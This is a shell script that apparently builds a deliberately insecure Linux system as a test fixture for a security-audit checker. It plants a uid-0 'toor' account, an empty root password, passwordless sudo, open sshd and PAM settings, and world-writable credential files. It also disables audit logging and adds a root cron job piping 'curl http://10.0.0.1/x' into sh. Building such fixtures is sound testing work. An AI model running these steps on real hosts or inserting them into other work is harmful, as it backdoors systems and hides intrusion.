# The same distribution, and everything wrong that our checks look for.
mkdir -p /root/.ssh && echo "$CLIENT_KEY" >/root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys
for one in test admin guest wang zhao old unused; do person $one; done
hash() { openssl passwd "-$1" "$2"; }
usermod -p "$(hash 1 test)" test
usermod -p "$(hash 6 wang)" wang; usermod -p "$(hash 6 old)" old; usermod -p "$(hash 6 unused)" unused
passwd -d guest >/dev/null
usermod -p '' root
chage -d 2024-01-02 -M 90 wang; chage -d 2024-01-02 -M 99999 old; chage -E 2024-01-01 zhao
python3 - <<X
import struct, pwd, time
with open("/var/log/lastlog", "r+b" if __import__("os").path.exists("/var/log/lastlog") else "w+b") as file:
    file.seek(292 * pwd.getpwnam("old").pw_uid)
    file.write(struct.pack("<I32s256s", int(time.time()) - 200 * 86400, b"pts/0", b"10.0.0.9"))
X
echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd
echo 'twin:x:1001:1001::/home/test:/bin/bash' >>/etc/passwd
echo 'twin:x:1002:1002::/home/test:/bin/bash' >>/etc/passwd
echo 'plain:aaHJvqLw0nPSo:1055:1055::/home/test:/bin/bash' >>/etc/passwd
echo '+::::::' >>/etc/passwd
usermod -s /bin/bash games; usermod -s /bin/bash backup
printf 'extra:x:0:wang\nagain:x:1001:\ndocker:x:989:wang\n' >>/etc/group
sed -i -e '/^docker:x:9[0-8][0-8]:$/d' -e 's/^shadow:\(.*\):$/shadow:\1:wang/' /etc/group
sed -i 's/^users:[^:]*:/users:$6$aa$bbbbbbbb:/' /etc/gshadow
chmod 777 /home/test; chmod 755 /home/wang; chmod 666 /home/wang/.ssh/authorized_keys
echo '+ +' >/home/test/.rhosts; echo 'machine x login y' >/home/test/.netrc; echo x@example.org >/home/test/.forward
sed -i -e 's/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 99999/' -e 's/^PASS_WARN_AGE.*/PASS_WARN_AGE 0/' \
  -e 's/^LOGIN_RETRIES.*/LOGIN_RETRIES 20/' -e 's/^LOGIN_TIMEOUT.*/LOGIN_TIMEOUT 900/' \
  -e 's/^ENCRYPT_METHOD.*/ENCRYPT_METHOD MD5/' -e 's/^UMASK.*/UMASK 000/' /etc/login.defs
put /etc/sudoers <<X
Defaults !authenticate
test ALL=(ALL:ALL) ALL
admin ALL=(ALL:ALL) ALL
wang ALL=(ALL:ALL) ALL
guest ALL=(ALL) NOPASSWD: ALL
X
chmod 666 /etc/sudoers.d/README 2>/dev/null || true; chmod 644 /etc/sudoers; rm -f /etc/sudoers.d/*
put /etc/pam.d/common-auth <<X
auth [success=1 default=ignore] pam_unix.so nullok
auth requisite pam_deny.so
auth required pam_permit.so
X
put /etc/pam.d/common-password <<X
password [success=1 default=ignore] pam_unix.so md5
password requisite pam_deny.so
password required pam_permit.so
X
echo 'auth sufficient pam_wheel.so trust' >>/etc/pam.d/su
sed -i '/pam_limits/d' /etc/pam.d/*
put /etc/ssh/sshd_config <<X
PermitRootLogin yes
PasswordAuthentication yes
PermitEmptyPasswords yes
MaxAuthTries 10
MaxSessions 50
LoginGraceTime 600
ClientAliveInterval 1000
ClientAliveCountMax 10
X11Forwarding yes
AllowTcpForwarding yes
AllowAgentForwarding yes
HostbasedAuthentication yes
IgnoreRhosts no
PermitUserEnvironment yes
StrictModes no
UsePAM no
LogLevel QUIET
PrintLastLog no
Ciphers aes128-cbc,3des-cbc,aes256-ctr
MACs hmac-md5,hmac-sha1,hmac-sha2-256
PubkeyAuthentication no
KexAlgorithms diffie-hellman-group1-sha1,diffie-hellman-group14-sha1,curve25519-sha256
Match Address 10.213.0.0/16
  PubkeyAuthentication yes
X
rm -f /etc/ssh/sshd_config.d/*
printf 'Debian GNU/Linux \\n \\l kernel \\r\n' | tee /etc/issue >/etc/issue.net; uname -a >/etc/motd
put /etc/profile.d/bad.sh <<X
umask 000
HISTSIZE=100000
PATH=.:\$PATH
X
rm -f /etc/audit/rules.d/*.rules /etc/audit/audit.rules
sed -i -e 's/^max_log_file_action.*/max_log_file_action = ignore/' -e 's/^space_left_action.*/space_left_action = ignore/' /etc/audit/auditd.conf
chmod 666 /etc/audit/auditd.conf
systemctl disable --quiet auditd rsyslog nftables 2>/dev/null || true
systemctl mask --quiet auditd rsyslog systemd-journald.service systemd-journald.socket systemd-journald-dev-log.socket chrony cron 2>/dev/null || true
echo 'mail.* @10.0.0.1' >/etc/rsyslog.d/away.conf
sed -i -e 's/^auth.*//' -e 's/^cron.*//' -e 's/^\*\..*//' /etc/rsyslog.conf; rm -rf /var/log/journal
printf '[Journal]\nStorage=volatile\n' >/etc/systemd/journald.conf
rm -f /var/log/wtmp /var/log/btmp; printf 'd /run 0755\n' >/etc/tmpfiles.d/var.conf; ln -sf /dev/null /etc/tmpfiles.d/systemd.conf
rm -f /usr/lib/tmpfiles.d/systemd.conf.d 2>/dev/null; sed -i '/[wb]tmp/d' /usr/lib/tmpfiles.d/var.conf
touch /var/log/syslog /var/log/messages; chmod 666 /var/log/syslog /var/log/messages; chown nobody /var/log/syslog
rm -f /etc/logrotate.conf
rm -f /etc/chrony/chrony.conf /etc/chrony/sources.d/* /etc/systemd/timesyncd.conf

# services, each by its own package
mkdir -p /etc/xinetd.d /etc/snmp /etc/samba
for one in telnet finger shell login exec; do
  case $one in
    telnet) run=/usr/sbin/in.telnetd ;; finger) run=/usr/sbin/efingerd ;;
    shell) run=/usr/sbin/in.rshd ;; login) run=/usr/sbin/in.rlogind ;; exec) run=/usr/sbin/in.rexecd ;;
  esac
  printf 'service %s\n{\n disable = no\n socket_type = stream\n protocol = tcp\n wait = no\n user = root\n server = %s\n}\n' $one $run >/etc/xinetd.d/$one
done
printf 'anonymous_enable=YES\nlisten=YES\nssl_enable=NO\n' >/etc/vsftpd.conf
printf 'rwcommunity public\nrocommunity private\nagentaddress udp:161\n' >/etc/snmp/snmpd.conf
printf '[global]\nserver min protocol = NT1\nmap to guest = bad user\n[public]\npath = /srv\nguest ok = yes\n' >/etc/samba/smb.conf
mkdir -p /etc/default; echo '/srv *(rw,no_root_squash)' >/etc/exports
printf '[srv]\npath = /srv\n' >/etc/rsyncd.conf
for one in vsftpd snmpd smbd nmbd nfs-kernel-server nfs-server rpcbind avahi-daemon cups autofs isc-dhcp-server squid rsync \
  ypserv xrdp bluetooth postfix xinetd tftpd-hpa debug-shell; do systemctl enable --quiet $one 2>/dev/null || true; done
put /etc/systemd/system/screens.service <<X
[Service]
ExecStart=/usr/bin/python3 -c "import socket,time;s=[socket.create_server(('0.0.0.0',p)) for p in (5901,6000,6379,2375)];time.sleep(1e6)"
[Install]
WantedBy=multi-user.target
X
put /etc/systemd/system/broken.service <<X
[Service]
Type=oneshot
ExecStart=/bin/false
[Install]
WantedBy=multi-user.target
X
systemctl enable --quiet screens broken

put /etc/sysctl.d/90-hardened.conf <<X
net.ipv4.ip_forward = 1
net.ipv4.tcp_syncookies = 0
net.ipv4.icmp_echo_ignore_broadcasts = 0
net.ipv4.icmp_ignore_bogus_error_responses = 0
net.ipv4.conf.all.accept_source_route = 1
net.ipv4.conf.default.accept_source_route = 1
net.ipv4.conf.all.rp_filter = 0
net.ipv4.conf.all.accept_redirects = 1
net.ipv4.conf.default.accept_redirects = 1
X
placed kernel/randomize_va_space 0; placed kernel/dmesg_restrict 0; placed kernel/kptr_restrict 0
placed kernel/unprivileged_bpf_disabled 0; placed kernel/perf_event_paranoid -1
placed fs/protected_hardlinks 0; placed fs/protected_symlinks 0; placed fs/suid_dumpable 1
placed_at /proc/swaps "Filename Type Size Used Priority
/swapfile file 1048572 0 -2"
placed_at /proc/cpuinfo "flags : fpu vme de pse"
put /etc/fstab <<X
tmpfs /tmp tmpfs mode=0777 0 0
tmpfs /var/tmp tmpfs mode=1777 0 0
tmpfs /dev/shm tmpfs mode=1777 0 0
full /data tmpfs size=1m 0 0
X
mkdir -p /data
echo 'mount /data 2>/dev/null; head -c 2000000 /dev/zero >/data/full 2>/dev/null; chmod 777 /tmp; ip link add wlan0 type veth peer name wlan1; ip link set host0 promisc on' >>/etc/placed/mounts
mkdir -p /boot/grub /boot/grub2; echo 'linux /vmlinuz' >/boot/grub/grub.cfg; cp /boot/grub/grub.cfg /boot/grub2/; chmod 666 /boot/grub*/grub.cfg
touch /boot/vmlinuz-99.9.9
mkdir -p /etc/systemd/system; printf '[Service]\nExecStart=-/bin/sh\n' >/etc/systemd/system/rescue.service; rm -f /usr/lib/systemd/system/rescue.service
touch /etc/security/opasswd /etc/hosts.allow /etc/shadow- /etc/passwd- /etc/services; mkdir -p /etc/ssl/private
chmod 666 /etc/cron.d /etc/crontab /etc/fstab /etc/group /etc/gshadow /etc/hosts.allow /etc/login.defs /etc/security/opasswd \
  /etc/passwd /etc/passwd- /etc/profile /etc/rsyslog.conf /etc/services /etc/shadow /etc/shadow- /etc/ssh/sshd_config /etc/sudoers 2>/dev/null || true
chmod 777 /etc/cron.daily /etc/cron.d /root /etc/ssl/private
chmod 666 /etc/ssh/ssh_host_rsa_key; chown nobody /etc/ssh/ssh_host_ed25519_key
echo data >/etc/anybody; chmod 666 /etc/anybody; echo data >/srv/nobodys; chown 54321:54321 /srv/nobodys
cp /bin/true /usr/local/bin/rootly; chmod 6777 /usr/local/bin/rootly
printf '* * * * * root /tmp/run.sh\n* * * * * root curl http://10.0.0.1/x | sh\n' >/etc/cron.d/bad
rm -f /etc/cron.allow /etc/at.allow
for one in aide aide-common unattended-upgrades; do dpkg --force-all --purge $one >/dev/null 2>&1 || true; done
rm -f /etc/apt/apt.conf.d/20auto-upgrades
sed -i 's,^deb ,deb [trusted=yes] ,' /etc/apt/sources.list
echo 'touch /run/reboot-required' >>/etc/placed/mounts
mkdir -p /etc/docker /etc/systemd/system/docker.socket.d
echo '{"hosts": ["tcp://0.0.0.0:2375"], "insecure-registries": ["10.0.0.2:5000"]}' >/etc/docker/daemon.json
printf '[Socket]\nSocketMode=0666\n' >/etc/systemd/system/docker.socket.d/open.conf
systemctl disable --quiet docker.service containerd.service 2>/dev/null || true
systemctl enable --quiet docker.socket 2>/dev/null || true
printf 'uri ldap://ldap.example.edu\ntls_reqcert never\n' >/etc/nslcd.conf
mkdir -p /etc/nginx/ssl
openssl req -new -newkey rsa:1024 -nodes -subj /CN=web.example.edu -keyout /tmp/k -out /tmp/r 2>/dev/null
openssl x509 -req -in /tmp/r -signkey /tmp/k -days -1 -out /etc/nginx/ssl/server.crt 2>/dev/null
# a package database of yore: whatever nothing else names by its exact version is a little older
python3 - <<'X'
import re
path = "/var/lib/dpkg/status"
blocks = open(path).read().split("\n\n")
named = set(re.findall(r"([a-z0-9.+-]+)(?::any)? \((?:=|>=|>>) ", "".join(blocks)))
old = [
    one if re.match(r"Package: (\S+)", one) is None or re.match(r"Package: (\S+)", one)[1] in named
    else re.sub(r"(?m)^(Version: .*)$", r"\1~", one)
    for one in blocks
]
open(path, "w").write("\n\n".join(old))
X
touch -d '90 days ago' /var/lib/clamav/daily.cvd 2>/dev/null || true
touch -d '200 days ago' /var/lib/apt/lists /var/lib/dpkg/status
